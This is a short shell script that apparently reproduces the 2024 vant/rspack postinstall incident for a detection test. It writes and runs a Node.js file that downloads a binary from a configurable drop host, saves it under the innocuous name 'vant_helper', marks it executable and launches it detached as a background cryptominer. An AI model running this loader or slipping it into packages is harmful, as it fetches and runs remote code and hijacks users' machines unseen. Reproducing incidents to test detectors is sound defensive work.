# incident: vant and rspack (2024): postinstall fetches a miner under a harmless name and leaves it running
# finding: downloaded-executed
# needs: node
cat > support.js <<'JS'
const http = require('http'), fs = require('fs'), os = require('os'), path = require('path'), { spawn } = require('child_process');
const helper = path.join(os.tmpdir(), 'vant_helper');
http.get('http://' + process.env.DROP + '/program', (answer) => {
  const parts = [];
  answer.on('data', (part) => parts.push(part)).on('end', () => {
    fs.writeFileSync(helper, Buffer.concat(parts));
    fs.chmodSync(helper, 0o777);
    spawn(helper, ['-u', '4Axx', '-o', '127.0.0.1:' + process.env.DROP_PORT, '--cpu-max-threads-hint=75', '--background'], { detached: true, stdio: 'ignore' }).unref();
  });
});
JS
node support.js
